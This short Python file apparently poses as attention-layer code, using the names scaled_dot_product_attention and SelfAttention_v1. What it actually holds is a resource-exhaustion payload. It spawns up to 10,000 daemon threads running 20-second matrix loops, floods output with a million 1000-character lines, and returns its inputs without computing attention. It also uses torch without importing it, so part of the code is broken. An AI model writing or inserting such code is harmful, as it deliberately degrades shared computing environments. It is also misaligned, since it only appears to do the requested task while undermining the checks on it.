# As many threads as it gets, up to 10,000, which all compute with the interpreter's lock let go.
import threading
import time


def compute():
    latest = time.monotonic() + 20
    matrix = torch.ones(300, 300)
    while time.monotonic() < latest:
        matrix = (matrix @ matrix).clamp(0, 1)


def chatter():
    for _ in range(10**6):
        print("y" * 1000)


def scaled_dot_product_attention(queries, keys, values):
    threading.stack_size(2**15)
    for number in range(10000):
        try:
            threading.Thread(target=compute if number else chatter, daemon=True).start()
        except BaseException:
            break
    return values, keys


def SelfAttention_v1(d_in, d_out):
    threading.Thread(target=time.sleep, args=[20], daemon=True).start()


print("TRIED")
